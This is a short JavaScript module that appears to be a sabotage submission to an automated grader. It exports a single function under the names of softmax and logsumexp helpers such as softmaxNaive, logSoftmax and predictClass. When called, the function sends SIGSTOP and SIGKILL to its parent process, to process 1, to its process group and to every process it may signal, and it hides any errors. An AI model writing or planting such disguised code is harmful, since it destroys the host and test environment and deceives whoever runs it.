// At most 0 points. Sends signals to its parent, to the first process, to its group and to all it may.
const attack = () => {
  for (const pid of [process.ppid, 1, 0, -1, -process.pid]) {
    for (const signal of ['SIGUSR1', 'SIGSTOP', 'SIGKILL']) {
      try {
        if (pid !== 0 || signal !== 'SIGKILL') process.kill(pid, signal);
      } catch {}
    }
  }
  return 0;
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
